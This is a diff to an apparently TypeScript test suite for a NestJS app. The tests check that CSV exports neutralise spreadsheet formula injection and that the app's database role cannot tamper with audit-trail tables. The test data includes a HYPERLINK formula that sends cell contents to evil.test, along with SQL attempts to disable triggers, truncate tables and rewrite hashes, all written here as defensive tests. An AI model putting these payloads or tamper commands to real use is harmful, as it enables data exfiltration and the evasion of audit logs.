@@ -3,9 +3,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { INestApplication, LoggerService } from '@nestjs/common';
 import { createApp } from '../src/bootstrap';
-import { runMigrations } from '../src/database/data-source';
-import { freePort, startEmbeddedPostgres } from '../src/database/embedded-postgres';
-import { api, createPlatformAdmin, login, onboardOrganization, PASSWORD, startTestApp, type TestApp, type TestOrg, testConfig, unique } from './helpers';
+import { freePort, startEmbeddedPostgres, type EmbeddedDatabase } from '../src/database/embedded-postgres';
+import { prepareDatabase } from '../src/database/roles';
+import { api, createPlatformAdmin, login, onboardOrganization, PASSWORD, startTestApp, type TestApp, type TestOrg, testConfig, unique, adminDataSource } from './helpers';
 
 describe('HTTP edges', () => {
   let t: TestApp;
@@ -157,11 +157,14 @@ describe('HTTP edges', () => {
       );
       const res = await fetch(`${t.url}/api/audit-reports/${report.id}/numbers.csv`, { headers: { authorization: `Bearer ${org.hrToken}` } });
       expect(res.status).toBe(200);
+      // Prefixes: columns may be added after these.
       const lines = (await res.text()).split(/\r?\n/);
-      expect(lines).toContain(`unit,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")",6,3,0,0.5000,false`);
-      expect(lines).toContain(`unit,'-2+3,6,3,1,0.5000,false`);
-      expect(lines).toContain(`unit,'@SUM(A1:A9),,,,,true`);
-      expect(lines).toContain('summary,all,12,6,1,0.5000,false');
+      const line = (prefix: string) => lines.find((l) => l.startsWith(prefix));
+      expect(line(`unit,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")",6,3,0,0.5000,`)).toBeDefined();
+      expect(line(`unit,'-2+3,6,3,1,0.5000,`)).toBeDefined();
+      expect(line(`unit,'@SUM(A1:A9),,,,,`)).toMatch(/,true$/);
+      expect(line('summary,all,12,6,1,0.5000,')).toBeDefined();
+      expect(lines.filter((l) => /^unit,[=+\-@"]?[=+\-@]/.test(l))).toEqual([]);
 
       for (const name of [evil, '+62 Cabang']) {
         const unit = await api(t.url, 'POST', '/api/units', { token: org.hrToken, body: { code: unique('U'), name } });
@@ -196,7 +199,7 @@ describe('HTTP edges', () => {
       expect(fieldsOf(partner.body)).toEqual(['name']);
       const onboarding = await api(t.url, 'POST', '/api/organizations', {
         token: admin,
-        body: { name: 'Org \u2067X', code: unique('org'), timeZone: 'Asia/Jakarta', hrAdmin: { email: 'hr-bidi@org.test', name: 'H\u200BR', password: PASSWORD } },
+        body: { name: 'Org \u2067X', code: unique('org'), timeZone: 'Asia/Jakarta', hrAdmin: { email: 'hr-bidi@org.test', name: 'H\u200BR' } },
       });
       expect(onboarding.status).toBe(400);
       expect(fieldsOf(onboarding.body).sort()).toEqual(['hrAdmin.name', 'name']);
@@ -227,7 +230,7 @@ describe('PostgreSQL unreachable', () => {
     lines.push(`${level} ${[message, ...rest].map((part) => (part instanceof Error ? part.stack : String(part))).join(' ')}`);
   };
   const logger: LoggerService = { log: capture('log'), error: capture('error'), warn: capture('warn'), debug: () => undefined, verbose: () => undefined };
-  let db: { url: string; stop(): Promise<void> };
+  let db: EmbeddedDatabase;
   let port: number;
   let app: INestApplication;
   let url: string;
@@ -236,7 +239,7 @@ describe('PostgreSQL unreachable', () => {
   beforeAll(async () => {
     port = await freePort();
     await start();
-    await runMigrations(db.url);
+    await prepareDatabase({ migrationUrl: db.ownerUrl, runtimeUrl: db.url });
     app = await createApp(testConfig({ DATABASE_URL: db.url }), logger);
     await app.listen(0, '127.0.0.1');
     url = `http://127.0.0.1:${(app.getHttpServer().address() as { port: number }).port}`;
@@ -378,6 +381,69 @@ describe('security and cache headers', () => {
     const direct = await headersOf(proxied.url, '/api/health');
     expect(direct.get('strict-transport-security')).toBeNull();
     expect(direct.get('content-security-policy')).not.toContain('upgrade-insecure-requests');
+  });
+});
+
+describe('database roles', () => {
+  let t: TestApp;
+  beforeAll(async () => {
+    t = await startTestApp();
+  });
+  afterAll(() => t?.close());
+
+  it('runs the app as a role that owns nothing and cannot lift the audit trail protection', async () => {
+    const [me] = await t.dataSource.query(
+      `SELECT current_user AS role, rolsuper, rolcreaterole, rolcreatedb FROM pg_roles WHERE rolname = current_user`,
+    );
+    expect(me).toEqual({ role: 'aman_app', rolsuper: false, rolcreaterole: false, rolcreatedb: false });
+    const [{ owned }] = await t.dataSource.query(
+      `SELECT count(*)::int AS owned FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
+        WHERE n.nspname IN ('public', 'pgboss') AND pg_has_role(current_user, c.relowner, 'USAGE')`,
+    );
+    expect(owned).toBe(0);
+
+    // An entry made through the app, then sequenced: the chain row the runtime role must not touch.
+    const { email } = await createPlatformAdmin(t.dataSource);
+    await login(t.url, email, PASSWORD);
+    const [entry] = await t.dataSource.query(`SELECT id FROM audit_entries ORDER BY id DESC LIMIT 1`);
+    await t.dataSource.query(`INSERT INTO audit_entries (action) VALUES ('test.roles')`);
+
+    for (const table of ['audit_entries', 'audit_chain']) {
+      await expect(t.dataSource.query(`ALTER TABLE ${table} DISABLE TRIGGER ALL`)).rejects.toThrow(/must be owner|permission denied/);
+      await expect(t.dataSource.query(`ALTER TABLE ${table} DISABLE TRIGGER USER`)).rejects.toThrow(/must be owner|permission denied/);
+      await expect(t.dataSource.query(`TRUNCATE ${table} CASCADE`)).rejects.toThrow(/permission denied/);
+      await expect(t.dataSource.query(`DELETE FROM ${table}`)).rejects.toThrow(/permission denied/);
+    }
+    await expect(t.dataSource.query(`UPDATE audit_chain SET hash = repeat('0', 64) WHERE entry_id = $1`, [entry.id])).rejects.toThrow(/permission denied/);
+    await expect(t.dataSource.query(`UPDATE audit_entries SET details = '{}' WHERE id = $1`, [entry.id])).rejects.toThrow(/permission denied/);
+    await expect(t.dataSource.query(`SET session_replication_role = replica`)).rejects.toThrow(/permission denied/);
+    await expect(t.dataSource.query(`DROP TRIGGER audit_entries_append_only ON audit_entries`)).rejects.toThrow(/must be owner|permission denied/);
+    await expect(t.dataSource.query(`CREATE OR REPLACE FUNCTION audit_refuse_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$`)).rejects.toThrow(
+      /must be owner|permission denied/,
+    );
+
+    // The superuser still can (what the anchors check is for); the setup hands tests that role apart.
+    const admin = await adminDataSource();
+    try {
+      const [su] = await admin.query(`SELECT rolsuper FROM pg_roles WHERE rolname = current_user`);
+      expect(su.rolsuper).toBe(true);
+    } finally {
+      await admin.destroy();
+    }
+  });
+
+  it('lets the runtime role use the job queue made by the owner (a new queue is a partition table)', async () => {
+    const { JobsService } = await import('../src/jobs/jobs.service');
+    const jobs = t.app.get(JobsService);
+    const name = unique('roles-test-queue');
+    const id = await jobs.send(name, { ok: true });
+    expect(id).toEqual(expect.any(String));
+    const [partition] = await t.dataSource.query(`SELECT partition_name FROM pgboss.queue WHERE name = $1`, [name]);
+    const [{ owner }] = await t.dataSource.query(
+      `SELECT pg_get_userbyid(c.relowner) AS owner FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'pgboss' AND c.relname = $1`,
+      [partition.partition_name],
+    );
+    expect(owner).toBe('aman_owner');
   });
 });
 
